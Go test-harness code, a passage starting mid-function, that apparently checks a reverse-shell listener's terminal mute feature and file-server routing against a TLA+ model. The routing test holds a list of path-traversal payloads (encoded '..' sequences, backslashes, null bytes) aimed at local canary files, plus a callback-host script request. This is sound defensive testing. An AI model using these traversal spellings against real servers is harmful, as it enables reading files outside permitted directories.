			fmt.Fprintf(c, "GET /f/x HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n")
			check("file-requested", n0)
			c.Close()
		} else {
			return fs, n, "cannot connect from " + zoned + ": " + err.Error()
		}
	}
	if actions["sent-script"] {
		n++
		n0 := s.NLines()
		if c, err := dial(); err == nil {
			fmt.Fprintf(c, "GET /c?c2=cb.example HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n")
			check("sent-script", n0)
			c.Close()
		}
	}
	if actions["input-connected"] {
		n++
		n0 := s.NLines()
		if c, err := dial(); err == nil {
			fmt.Fprintf(c, "GET /i/zoned-client HTTP/1.1\r\nHost: h\r\n\r\n")
			check("input-connected", n0)
			c.Close()
		}
	}
	return fs, n, ""
}
