package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/graph"
	"github.com/magisterquis/curlrevshell/verifharness/ptyx"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

func init() {
	register("C19", "model_checking", func(r *ev.Run) {
		opshellCampaign(r)
		opLocksCampaign(r)
		compositionLeg(r)
		muteEndToEnd(r)
	})
}

const (
	opTick  = 500 * time.Millisecond
	opPause = 4 // ticks
)

type opAct struct {
	N     string `json:"n"`
	Says  string `json:"says"`
	Shown bool   `json:"shown"`
	T     int    `json:"t"`
}

type opDiv struct {
	aspect, desc string
}

type opResult struct {
	divs   []opDiv
	lagged bool
	labels []string
	infra  error
}

// firstAt returns the arrival time of the n-th (0-based) occurrence of pat in the timed output.
func occurrences(chunks []ptyx.Chunk, pat string) []time.Duration {
	var all bytes.Buffer
	type mark struct {
		off int
		at  time.Duration
	}
	var marks []mark
	for _, c := range chunks {
		marks = append(marks, mark{all.Len(), c.At})
		all.Write(c.Data)
	}
	var out []time.Duration
	b := all.Bytes()
	from := 0
	for {
		i := bytes.Index(b[from:], []byte(pat))
		if i < 0 {
			break
		}
		end := from + i + len(pat) - 1 // the occurrence is complete when its last byte has arrived
		at := time.Duration(0)
		for _, m := range marks {
			if m.off <= end {
				at = m.at
			}
		}
		out = append(out, at)
		from = from + i + len(pat)
	}
	return out
}

func opshellWalk(helper string, g *graph.G, walk []int) opResult {
	var res opResult
	rd, wr, err := os.Pipe()
	if err != nil {
		res.infra = err
		return res
	}
	defer wr.Close()
	p, err := ptyx.Start(helper, nil, ptyx.Opts{ExtraFiles: []*os.File{rd}})
	rd.Close()
	if err != nil {
		res.infra = err
		return res
	}
	defer p.Close()
	dl := time.Now().Add(10 * time.Second)
	for !bytes.Contains(p.Output(), []byte("<READY>")) {
		if time.Now().After(dl) {
			res.infra = fmt.Errorf("helper did not come up: %q %q", p.Output(), p.Stderr())
			return res
		}
		time.Sleep(time.Millisecond)
	}
	type planned struct {
		act  opAct
		at   time.Duration // relative to t0
		mark string
	}
	var plan []planned
	perTick := map[int]int{}
	np, ns := 0, 0
	lastTick := 0
	endMuted, endDeadline := false, 0
	for _, ei := range walk {
		var a opAct
		json.Unmarshal(g.Edges[ei].Act, &a)
		var to []any
		json.Unmarshal(g.Edges[ei].ToState, &to)
		if len(to) >= 3 {
			endMuted, _ = to[1].(bool)
			d, _ := to[2].(float64)
			endDeadline = int(d)
		}
		if a.T > lastTick {
			lastTick = a.T
		}
		switch a.N {
		case "CtrlO", "Plain", "Status":
			k := perTick[a.T]
			perTick[a.T]++
			pl := planned{act: a, at: time.Duration(a.T)*opTick + time.Duration(k)*40*time.Millisecond}
			switch a.N {
			case "Plain":
				np++
				pl.mark = fmt.Sprintf("<p%d>", np)
			case "Status":
				ns++
				pl.mark = fmt.Sprintf("<s%d>", ns)
			}
			plan = append(plan, pl)
			res.labels = append(res.labels, fmt.Sprintf("%s@%d", a.N, a.T))
		case "Unmute":
			plan = append(plan, planned{act: a, at: time.Duration(a.T) * opTick})
			res.labels = append(res.labels, fmt.Sprintf("Unmute@%d", a.T))
		}
	}
	start := time.Now().Add(30 * time.Millisecond)
	t0 := start.Sub(p.T0) // offset of our time zero in the pty's clock
	for _, pl := range plan {
		if pl.act.N == "Unmute" {
			continue
		}
		time.Sleep(time.Until(start.Add(pl.at)))
		lag := time.Since(start.Add(pl.at))
		if lag > 120*time.Millisecond {
			res.lagged = true
		}
		switch pl.act.N {
		case "CtrlO":
			p.Type([]byte{0x0f})
		case "Plain":
			fmt.Fprintf(wr, "P %s\\n\n", pl.mark)
		case "Status":
			fmt.Fprintf(wr, "S %s\n", pl.mark)
		}
	}
	// let the story end: a mute still in force ends by itself
	endAt := time.Duration(lastTick)*opTick + 300*time.Millisecond
	if endMuted {
		endAt = time.Duration(endDeadline)*opTick + 700*time.Millisecond
	}
	time.Sleep(time.Until(start.Add(endAt)))
	fmt.Fprintln(wr, "Q")
	p.WaitExit(3 * time.Second)
	chunks := p.Chunks()
	out := p.Output()
	div := func(aspect, format string, a ...any) {
		res.divs = append(res.divs, opDiv{aspect, fmt.Sprintf(format, a...)})
	}
	rel := func(d time.Duration) float64 { return float64(d-t0) / float64(opTick) }
	mutings := occurrences(chunks, "Muting until")
	alreadys := occurrences(chunks, "Already muted")
	unmutes := occurrences(chunks, "Unmuting")
	nm, na, nu := 0, 0, 0
	for _, pl := range plan {
		switch pl.act.N {
		case "Plain":
			present := bytes.Contains(out, []byte(pl.mark))
			if pl.act.Shown && !present {
				div("plain-dropped-while-not-muted", "shell output %s sent at tick %d never reached the terminal although output was not muted", pl.mark, pl.act.T)
			}
			if !pl.act.Shown && present {
				div("plain-shown-while-muted", "shell output %s sent at tick %d was displayed although output was muted", pl.mark, pl.act.T)
			}
		case "Status":
			if !bytes.Contains(out, []byte(pl.mark)) {
				div("status-line-suppressed", "status line %s sent at tick %d never reached the terminal", pl.mark, pl.act.T)
			}
		case "CtrlO":
			if pl.act.Says == "muting" {
				if nm >= len(mutings) {
					div("no-muting-announcement", "Ctrl+O at tick %d was not announced", pl.act.T)
				}
				nm++
			} else {
				if na >= len(alreadys) {
					div("already-muted", "a second Ctrl+O at tick %d while muted was not answered with 'Already muted'", pl.act.T)
				}
				na++
			}
		case "Unmute":
			if nu >= len(unmutes) {
				div("never-unmutes", "no un-muting announcement although output has been calm since tick %d - %d", pl.act.T, opPause)
			} else if got := rel(unmutes[nu]); got < float64(pl.act.T)-0.45 || got > float64(pl.act.T)+0.6 {
				div("unmute-time", "un-muting announced at tick %.2f, expected at tick %d", got, pl.act.T)
			}
			nu++
		}
	}
	wantUn := nu
	if endMuted {
		wantUn++
		if len(unmutes) < wantUn {
			div("never-unmutes", "the mute still in force at the end (timer due at tick %d) did not end by itself", endDeadline)
		} else if got := rel(unmutes[wantUn-1]); got < float64(endDeadline)-0.45 || got > float64(endDeadline)+0.6 {
			div("unmute-time", "un-muting announced at tick %.2f, expected at tick %d", got, endDeadline)
		}
	}
	if len(unmutes) > wantUn {
		div("spurious-unmute", "%d un-muting announcements, expected %d", len(unmutes), wantUn)
	}
	if len(mutings) > nm {
		div("spurious-mute", "%d muting announcements, expected %d", len(mutings), nm)
	}
	return res
}

func opshellCampaign(r *ev.Run) {
	scratch, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "opshell-")
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer os.RemoveAll(scratch)
	helper := filepath.Join(scratch, "opsh")
	if err := goBuild(filepath.Join(ev.Root(), "harness"), "./helpers/opsh", helper, ""); err != nil {
		r.Inconclusive("%v", err)
		return
	}
	cfg, limit := "Opshell_q", 240
	if r.Tier == "thorough" {
		cfg, limit = "Opshell_t", 5000
	}
	g := graph.New()
	var mu sync.Mutex
	res, err := tlcrun.Run(tlcrun.Opts{Module: "Opshell", Config: cfg, Workers: 4, Timeout: 10 * time.Minute,
		OnTagged: func(tag, p string) {
			if tag == "EDGE" {
				mu.Lock()
				g.AddEdgeJSON(p)
				mu.Unlock()
			}
		}})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC %s: err=%v violated=%q\n%s", cfg, err, resViolated(res), tail(res))
		return
	}
	r.Add("states", res.Distinct)
	r.Add("transitions", len(g.Edges))
	r.Append("tlc_invariants_checked", "Opshell: NothingDroppedWithoutCtrlO TimerArmedWhileMuted MutedDropsOnlyPlain UnmuteOnlyAfterCalm SuppressedPushesTimer AlreadyMutedChangesNothing; liveness MuteEndsByItself")
	g.SetInitByNoIncoming()
	rng := rand.New(rand.NewSource(r.Seed))
	walks := g.CoveringWalks(rng, 40)
	r.Set("edge_cover_walks", len(walks))
	// prefer walks with a Ctrl+O in them when thinning out
	if len(walks) > limit {
		var with, without [][]int
		for _, w := range walks {
			has := false
			for _, ei := range w {
				if strings.Contains(string(g.Edges[ei].Act), "CtrlO") {
					has = true
				}
			}
			if has {
				with = append(with, w)
			} else {
				without = append(without, w)
			}
		}
		walks = append(with, without...)
		if len(walks) > limit {
			walks = walks[:limit]
		}
	}
	results := make([]opResult, len(walks))
	var wg sync.WaitGroup
	sem := make(chan struct{}, 40)
	for i, w := range walks {
		wg.Add(1)
		sem <- struct{}{}
		go func(i int, w []int) {
			defer wg.Done()
			defer func() { <-sem }()
			for try := 0; try < 3; try++ {
				results[i] = opshellWalk(helper, g, w)
				if !results[i].lagged && results[i].infra == nil {
					break
				}
			}
		}(i, w)
	}
	wg.Wait()
	seen := map[string]bool{}
	distinct := map[string]bool{}
	nrun := 0
	for i, x := range results {
		if x.infra != nil {
			r.Inconclusive("opshell walk: %v", x.infra)
			continue
		}
		if x.lagged {
			r.Add("walks_dropped_for_scheduling_lag", 1)
			continue
		}
		nrun++
		if strings.Contains(strings.Join(x.labels, " "), "CtrlO") {
			distinct[strings.Join(x.labels, " ")] = true
		}
		for _, d := range x.divs {
			if seen[d.aspect] {
				continue
			}
			ok := 0
			for k := 0; k < 3; k++ {
				y := opshellWalk(helper, g, walks[i])
				if y.infra == nil && !y.lagged {
					for _, d2 := range y.divs {
						if d2.aspect == d.aspect {
							ok++
							break
						}
					}
				}
			}
			if ok == 0 {
				fmt.Printf("note: %s seen once and not again in three re-runs of %v (%s)\n", d.aspect, x.labels, d.desc)
				r.Add("transients_not_reproduced", 1)
				continue
			}
			if ok < 2 {
				r.Inconclusive("divergence %s reproduced only once in three re-runs: %s (%v)", d.aspect, d.desc, x.labels)
				continue
			}
			seen[d.aspect] = true
			r.Violation(d.aspect, map[string]any{"kind": "Opshell-walk in real time", "desc": d.desc, "schedule": x.labels, "tick_ms": opTick.Milliseconds()})
		}
	}
	if nrun == 0 {
		r.Inconclusive("no walk could be run within the scheduling tolerance")
	}
	for i := 0; i < 3 && i < len(results); i++ {
		r.Sample(results[(i*11)%len(results)].labels)
	}
	r.Add("evaluations", nrun)
	r.Add("distinct_nontrivial", len(distinct))
	r.Add("traces_validated_against_impl", nrun)
	r.Set("exhaustive", len(walks) == r.Get("edge_cover_walks"))
	r.Rule("walks covering the edges of Opshell.tla's TLC graph (Ctrl+O, shell output, status lines, timer expiry at half-second ticks; up to the event and time bounds) are replayed in real time against the real lib/opshell running on a pseudo-terminal: shell output and status lines are injected at their ticks, Ctrl+O is typed, and the terminal output is read with arrival times: which markers appear, 'Muting' / 'Already muted' announcements, and 'Unmuting' within -0.45/+0.6 tick of the tick the specification fires the timer, including the mute still in force when the schedule ends; non-trivial = distinct schedules containing a Ctrl+O")
	r.Assume("real time: a walk whose events could not be sent within 120 ms of their planned instant is re-run and otherwise dropped; events coinciding with the timer's expiry are not generated")
}

// muteEndToEnd plays one mute cycle through the real binary: shell output arrives over /o,
// a status line is caused by a refused connection, Ctrl+O is typed on the pty.
func muteEndToEnd(r *ev.Run) {
	scratch, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "mute-e2e-")
	if err != nil {
		return
	}
	defer os.RemoveAll(scratch)
	bin, err := buildBinary(scratch)
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	p, err := ptyx.Start(bin, []string{"-listen-address", "127.0.0.1:0", "-tls-certificate-cache", filepath.Join(scratch, "c.txtar")}, ptyx.Opts{Dir: scratch, Env: []string{"HOME=" + scratch}})
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer p.Close()
	m, ok := p.WaitFor(reListen, 0, 10*time.Second)
	if !ok {
		r.Inconclusive("mute end-to-end: binary did not start")
		return
	}
	addr := string(reListen.FindSubmatch(m)[1])
	ci, err1 := hold(addr, "/i/mute")
	co, err2 := dialTLS(addr)
	if err1 != nil || err2 != nil {
		r.Inconclusive("mute end-to-end: %v %v", err1, err2)
		return
	}
	defer ci.Close()
	defer co.Close()
	fmt.Fprintf(co, "POST /o/mute HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
	if _, ok := p.WaitFor(regexp.MustCompile(`Shell is ready`), 0, 5*time.Second); !ok {
		r.Inconclusive("mute end-to-end: shell not attached")
		return
	}
	send := func(s string) { fmt.Fprintf(co, "%x\r\n%s\r\n", len(s), s) }
	seen := func(s string) bool { return bytes.Contains(p.Output(), []byte(s)) }
	send("<before>\n")
	if _, ok := p.WaitFor(regexp.MustCompile(`<before>`), 0, 3*time.Second); !ok {
		r.Violation("e2e:output-not-shown-before-any-ctrl-o", map[string]any{})
		return
	}
	p.Type([]byte{0x0f})
	if _, ok := p.WaitFor(regexp.MustCompile(`Muting until`), 0, 3*time.Second); !ok {
		r.Violation("e2e:no-muting-announcement", map[string]any{})
		return
	}
	var last time.Time
	for i := 0; i < 5; i++ {
		send(fmt.Sprintf("<muted%d>\n", i))
		last = time.Now()
		time.Sleep(400 * time.Millisecond)
		if i == 2 {
			// a refused attempt: its notice is a status line and must get through
			c, err := dialTLS(addr)
			if err == nil {
				fmt.Fprintf(c, "GET /i/mute-other HTTP/1.1\r\nHost: x\r\n\r\n")
				time.Sleep(100 * time.Millisecond)
				c.Close()
			}
		}
	}
	if !seen("Rejected") {
		r.Violation("e2e:status-line-suppressed", map[string]any{"what": "the refusal notice caused during the mute did not reach the terminal"})
	}
	if _, ok := p.WaitFor(regexp.MustCompile(`Unmuting`), 0, 4*time.Second); !ok {
		r.Violation("e2e:never-unmutes", map[string]any{})
		return
	}
	if d := time.Since(last); d < 1500*time.Millisecond || d > 3200*time.Millisecond {
		r.Violation("e2e:unmute-time", map[string]any{"seconds_after_last_suppressed_output": d.Seconds()})
	}
	for i := 0; i < 5; i++ {
		if seen(fmt.Sprintf("<muted%d>", i)) {
			r.Violation("e2e:plain-shown-while-muted", map[string]any{"chunk": i})
		}
	}
	send("<after>\n")
	if _, ok := p.WaitFor(regexp.MustCompile(`<after>`), 0, 3*time.Second); !ok {
		r.Violation("e2e:output-not-shown-after-unmute", map[string]any{})
	}
	r.Set("end_to_end_mute_cycle", "real binary on a pty: output over /o, refusal notice during the mute, Ctrl+O typed")
	p.Type([]byte{4})
	p.WaitExit(5 * time.Second)
}
