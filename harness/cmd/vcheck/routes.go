package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"math/rand"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/hsrv"
	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/srv"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

func init() {
	register("C09", "exploration", routesCampaign)
}

type rtCase struct {
	Toks  []string `json:"toks"`
	Slash bool     `json:"slash"`
	Cfg   string   `json:"cfg"`
	Out   struct {
		K       string   `json:"k"`
		ID      string   `json:"id"`
		Path    []string `json:"path"`
		Handler bool     `json:"handler"`
	} `json:"out"`
}

var rtTrees = map[string][]string{
	"plain": {"a.txt", "sub/b.txt"},
	"named": {"a.txt", "sub/b.txt", "c", "io", "i/x", "o/x", "x"},
}

func rtContent(p string) string { return "FILE:" + p + ":content\n" }

// rtMakeRoots builds the served trees with canaries around them.
func rtMakeRoots(base string) (map[string]string, error) {
	fd := map[string]string{"none": ""}
	os.WriteFile(filepath.Join(base, "canary.txt"), []byte("CANARY-ABOVE\n"), 0o644)
	for name, files := range rtTrees {
		root := filepath.Join(base, name)
		for _, f := range files {
			p := filepath.Join(root, filepath.FromSlash(f))
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				return nil, err
			}
			if err := os.WriteFile(p, []byte(rtContent(f)), 0o644); err != nil {
				return nil, err
			}
		}
		os.MkdirAll(filepath.Join(base, name+"-evil"), 0o755)
		os.WriteFile(filepath.Join(base, name+"-evil", "secret.txt"), []byte("CANARY-SIBLING\n"), 0o644)
		os.WriteFile(filepath.Join(base, name+".bak"), []byte("CANARY-SIMILAR\n"), 0o644)
		fd[name] = root
	}
	single := filepath.Join(base, "single.bin")
	os.WriteFile(single, []byte("SINGLE-FILE-CONTENT\n"), 0o644)
	fd["file"] = single
	return fd, nil
}

type rtObs struct {
	kind    string
	id      string
	body    []byte
	status  int
	hops    int
	notices int
	raw     []byte
}

// rtRequest performs one request, following redirects, and classifies what the server did.
func rtRequest(s *srv.S, target string, expectNotice bool) (rtObs, error) {
	var o rtObs
	cur := target
	for hop := 0; hop < 6; hop++ {
		o.hops = hop
		for k := 0; k < 3000; k++ { // a stream left over from an earlier request must be gone first
			st := s.B.VerifSnapshot()
			if !st.In && !st.Out && st.Key == "" {
				break
			}
			time.Sleep(time.Millisecond)
		}
		n0 := s.NLines()
		l0 := len(s.Log.Records())
		c, err := tls.DialWithDialer(&net.Dialer{Timeout: 3 * time.Second}, "tcp", s.Addr, &tls.Config{InsecureSkipVerify: true})
		if err != nil {
			return o, err
		}
		fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: files.example\r\nConnection: close\r\n\r\n", cur)
		// read the response in the background; shell routes may never answer
		type rr struct {
			resp srv.Resp
		}
		ch := make(chan srv.Resp, 1)
		go func() { ch <- readResp(c) }()
		var resp srv.Resp
		got := false
		attached := ""
		// which handler ran is told by the broker's own connect records: the duplex
		// handler has no path ID, the unidirectional ones carry theirs
		classify := func() string {
			kind := ""
			for _, r := range s.Log.Records()[l0:] {
				if r["msg"] != iobroker.LMNewConnection || r["http_request.request_uri"] != cur {
					continue // not a record of this very request
				}
				if r["http_request.id"] == "" {
					return "io"
				}
				o.id = r["http_request.id"]
				if r["direction"] == "input" {
					kind = "in"
				} else {
					kind = "out"
				}
			}
			return kind
		}
		dl := time.Now().Add(3 * time.Second)
		for !got && attached == "" && time.Now().Before(dl) {
			select {
			case resp = <-ch:
				got = true
			case <-time.After(400 * time.Microsecond):
			}
			attached = classify()
		}
		if attached == "" && got && resp.Status == 200 && len(resp.Body) == 0 {
			// a stream that ended at once (a GET has no body to read): the records may lag by a moment
			for k := 0; k < 20 && attached == ""; k++ {
				time.Sleep(500 * time.Microsecond)
				attached = classify()
			}
		}
		c.Close()
		if attached != "" {
			o.kind = attached
			// let the shell go before the next request
			for k := 0; k < 3000; k++ {
				st := s.B.VerifSnapshot()
				if !st.In && !st.Out && st.Key == "" {
					break
				}
				time.Sleep(time.Millisecond)
			}
			return o, nil
		}
		if !got {
			return o, fmt.Errorf("no response and no stream for %q", cur)
		}
		o.status, o.body, o.raw = resp.Status, resp.Body, resp.Raw
		o.notices = 0
		for k := 0; k < 400; k++ { // the terminal goroutine may lag by a moment
			for _, l := range s.Lines()[n0:] {
				if !l.CL.Plain {
					o.notices++
				}
			}
			if o.notices > 0 || resp.Status == 301 || !expectNotice {
				break
			}
			time.Sleep(500 * time.Microsecond)
		}
		if resp.Status == 301 || resp.Status == 302 || resp.Status == 307 || resp.Status == 308 {
			loc := resp.Header["location"]
			bu, err1 := url.Parse("https://files.example" + cur)
			lu, err2 := url.Parse(loc)
			if err1 != nil || err2 != nil || loc == "" {
				o.kind = "redirect"
				return o, nil
			}
			nu := bu.ResolveReference(lu)
			cur = nu.EscapedPath()
			if nu.RawQuery != "" {
				cur += "?" + nu.RawQuery
			}
			continue
		}
		switch {
		case resp.Status == 200 && bytes.Contains(resp.Body, []byte("pinnedpubkey")) && bytes.Contains(resp.Body, []byte("/i/")):
			o.kind = "script"
		case resp.Status == 200 && bytes.Equal(resp.Body, []byte("SINGLE-FILE-CONTENT\n")):
			o.kind = "single"
		case resp.Status == 200 && bytes.HasPrefix(resp.Body, []byte("FILE:")):
			o.kind = "file"
		case resp.Status == 200 && bytes.Contains(resp.Body, []byte("<pre>")):
			o.kind = "listing"
		case resp.Status == 404:
			o.kind = "notfound"
		default:
			o.kind = fmt.Sprintf("status-%d", resp.Status)
		}
		return o, nil
	}
	o.kind = "redirect-loop"
	return o, nil
}

func readResp(c net.Conn) srv.Resp {
	var r srv.Resp
	c.SetReadDeadline(time.Now().Add(4 * time.Second))
	br := bufio.NewReader(c)
	var raw bytes.Buffer
	line, err := br.ReadString('\n')
	raw.WriteString(line)
	if err != nil {
		r.ConnErr = err
		return r
	}
	parts := strings.SplitN(strings.TrimSpace(line), " ", 3)
	if len(parts) >= 2 {
		r.Status, _ = strconv.Atoi(parts[1])
	}
	r.Header = map[string]string{}
	for {
		h, err := br.ReadString('\n')
		raw.WriteString(h)
		if err != nil || strings.TrimSpace(h) == "" {
			break
		}
		if k, v, ok := strings.Cut(h, ":"); ok {
			r.Header[strings.ToLower(strings.TrimSpace(k))] = strings.TrimSpace(v)
		}
	}
	if cl, ok := r.Header["content-length"]; ok {
		n, _ := strconv.Atoi(cl)
		b := make([]byte, n)
		m, _ := io.ReadFull(br, b)
		r.Body = b[:m]
	} else if strings.Contains(strings.ToLower(r.Header["transfer-encoding"]), "chunked") {
		for {
			sz, err := br.ReadString('\n')
			if err != nil {
				break
			}
			n, err := strconv.ParseInt(strings.TrimSpace(sz), 16, 64)
			if err != nil || n == 0 {
				break
			}
			chunk := make([]byte, n)
			if _, err := io.ReadFull(br, chunk); err != nil {
				break
			}
			r.Body = append(r.Body, chunk...)
			br.ReadString('\n')
		}
	} else {
		r.Body, _ = io.ReadAll(br)
	}
	raw.Write(r.Body)
	r.Raw = raw.Bytes()
	return r
}

func rtTarget(c rtCase) string {
	t := "/" + strings.Join(c.Toks, "/")
	if c.Slash && !strings.HasSuffix(t, "/") {
		t += "/"
	}
	return t
}

// rtExotic returns hostile spellings of a target.
func rtExotic(t string, rng *rand.Rand) []string {
	var out []string
	rep := func(old, new string) {
		if strings.Contains(t, old) {
			out = append(out, strings.ReplaceAll(t, old, new))
		}
	}
	rep("..", "%2e%2e")
	rep("..", "%2E%2e")
	rep("..", ".%2e")
	rep("..", "%252e%252e")
	rep("../", "..%2f")
	rep("../", "..%5c")
	rep("../", "..\\")
	rep("/", "%2f")
	out = append(out, t+";x=1", t+"%00", t+"%0a", "/"+strings.Repeat("a", 8000)+"/.."+t, "https://files.example"+t,
		"/../../../../../../"+strings.TrimPrefix(t, "/"), "/%2e%2e/%2e%2e/canary.txt", "/..%2fcanary.txt", "/..%5ccanary.txt",
		"/%2e%2e/plain-evil/secret.txt", "/..;/canary.txt", "//canary.txt", "/.%00./canary.txt", "/sub/%2e%2e/%2e%2e/canary.txt",
		"/\\..\\canary.txt", "/....//canary.txt", t+"/index.html", "/..\\x", "/a\\..\\b", "/%2e%2e%5cx", "/x/..%5c..%5ccanary.txt", "/sub/index.html", "/%c0%ae%c0%ae/canary.txt", "/sub/..%252f..%252fcanary.txt")
	rng.Shuffle(len(out), func(i, j int) { out[i], out[j] = out[j], out[i] })
	if len(out) > 6 {
		out = out[:6]
	}
	return out
}

type rtFinding struct {
	key    string
	detail map[string]any
}

func rtWorker(fd map[string]string, cases []rtCase, seed int64, exoticEvery int) (fs []rtFinding, nex int, infra error) {
	rng := rand.New(rand.NewSource(seed))
	servers := map[string]*srv.S{}
	for cfg, dir := range fd {
		s, err := srv.Start(srv.Opts{Fdir: dir})
		if err != nil {
			return nil, 0, err
		}
		defer s.Stop()
		servers[cfg] = s
	}
	for i, c := range cases {
		s := servers[c.Cfg]
		t := rtTarget(c)
		o, err := rtRequest(s, t, c.Out.Handler)
		if err != nil {
			return fs, nex, err
		}
		d := map[string]any{"target": t, "serve_files_from": c.Cfg, "expected": c.Out.K, "expected_path": c.Out.Path, "observed": o.kind, "status": o.status, "redirects": o.hops}
		if len(o.body) < 300 {
			d["body"] = string(o.body)
		}
		switch {
		case bytes.Contains(o.raw, []byte("CANARY")):
			fs = append(fs, rtFinding{"file-outside-tree-served", d})
		case o.kind != c.Out.K:
			key := "routing:" + c.Out.K + "->" + o.kind
			if c.Out.K == "script" || c.Out.K == "in" || c.Out.K == "out" || c.Out.K == "io" {
				key = "shell-endpoint-shadowed:" + c.Out.K + "->" + o.kind
			}
			fs = append(fs, rtFinding{key, d})
		case c.Out.K == "file" && string(o.body) != rtContent(strings.Join(c.Out.Path, "/")):
			fs = append(fs, rtFinding{"wrong-file-served", d})
		case (c.Out.K == "in" || c.Out.K == "out") && o.id != c.Out.ID:
			d["observed_id"] = o.id
			fs = append(fs, rtFinding{"wrong-id-extracted", d})
		case c.Out.Handler && o.notices == 0:
			fs = append(fs, rtFinding{"file-request-not-reported", d})
		}
		if exoticEvery > 0 && i%exoticEvery == 0 {
			for _, et := range rtExotic(t, rng) {
				nex++
				l0 := len(s.Log.Records())
				resp := srv.Raw(s.Addr, "", []byte("GET "+et+" HTTP/1.1\r\nHost: files.example\r\nConnection: close\r\n\r\n"), 3*time.Second)
				if bytes.Contains(resp.Raw, []byte("CANARY")) {
					fs = append(fs, rtFinding{"file-outside-tree-served", map[string]any{"target": et, "serve_files_from": c.Cfg, "status": resp.Status, "body": string(resp.Body)}})
				}
				if c.Cfg == "none" && resp.Status == 200 && !bytes.Contains(resp.Body, []byte("pinnedpubkey")) && len(resp.Body) > 0 {
					fs = append(fs, rtFinding{"content-served-while-unset", map[string]any{"target": et, "status": resp.Status, "body": string(resp.Body)}})
				}
				if c.Cfg == "file" && !(resp.Status == 200 && bytes.Equal(resp.Body, []byte("SINGLE-FILE-CONTENT\n"))) {
					// whatever the spelling: once the file handler has the request, the one file is the
					// answer.  The handler's log record is written synchronously, before it answers, and
					// this server serves this worker only: a record after l0 belongs to this request.
					for _, lr := range s.Log.Records()[l0:] {
						if lr["msg"] == hsrv.LMFileRequested {
							fs = append(fs, rtFinding{"single-file-not-returned", map[string]any{"target": et, "serve_files_from": c.Cfg, "status": resp.Status, "body": string(resp.Body), "location": resp.Header["location"]}})
							break
						}
					}
				}
				// a shell left attached by an exotic spelling of a shell route must go before the next case
				time.Sleep(200 * time.Microsecond)
			}
			// wait until the broker is idle again
			for k := 0; k < 2000; k++ {
				st := s.B.VerifSnapshot()
				if !st.In && !st.Out {
					break
				}
				time.Sleep(time.Millisecond)
			}
		}
	}
	return fs, nex, nil
}

func routesCampaign(r *ev.Run) {
	cfg, exoticEvery := "Routes_q", 4
	if r.Tier == "thorough" {
		cfg, exoticEvery = "Routes_t", 16
	}
	var mu sync.Mutex
	cases := map[string]rtCase{}
	res, err := tlcrun.Run(tlcrun.Opts{Module: "Routes", Config: cfg, Workers: 8, Timeout: 30 * time.Minute,
		OnTagged: func(tag, p string) {
			if tag != "CASE" {
				return
			}
			var c rtCase
			if json.Unmarshal([]byte(p), &c) == nil {
				mu.Lock()
				cases[p] = c
				mu.Unlock()
			}
		}})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC %s: err=%v violated=%q\n%s", cfg, err, resViolated(res), tail(res))
		return
	}
	r.Append("tlc_invariants_checked", "Routes: Confined SingleFile Unset404 EndpointsKeepMeaning NeverAboveRoot for every token sequence x trailing slash x configuration")
	scratch, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "routes-")
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer os.RemoveAll(scratch)
	fd, err := rtMakeRoots(scratch)
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	keys := make([]string, 0, len(cases))
	for k := range cases {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	nw := runtime.NumCPU()
	parts := make([][]rtCase, nw)
	nontrivial := 0
	for i, k := range keys {
		c := cases[k]
		parts[i%nw] = append(parts[i%nw], c)
		if c.Out.K != "notfound" {
			nontrivial++
		}
	}
	var all []rtFinding
	nexotic := 0
	var wg sync.WaitGroup
	var amu sync.Mutex
	for w := 0; w < nw; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			fs, nex, err := rtWorker(fd, parts[w], r.Seed*977+int64(w), exoticEvery)
			amu.Lock()
			defer amu.Unlock()
			if err != nil {
				r.Inconclusive("routes worker: %v", err)
			}
			all = append(all, fs...)
			nexotic += nex
		}(w)
	}
	wg.Wait()
	sort.Slice(all, func(i, j int) bool { return all[i].key < all[j].key })
	for _, f := range all {
		r.Violation(f.key, f.detail)
	}
	for i := 0; i < 3 && i < len(keys); i++ {
		c := cases[keys[(i*4999)%len(keys)]]
		r.Sample(map[string]any{"target": rtTarget(c), "serve_files_from": c.Cfg, "expected": c.Out})
	}
	r.Add("evaluations", len(cases)+nexotic)
	r.Add("distinct_nontrivial", nontrivial)
	r.Set("plain_targets", len(cases))
	r.Set("exotic_spellings", nexotic)
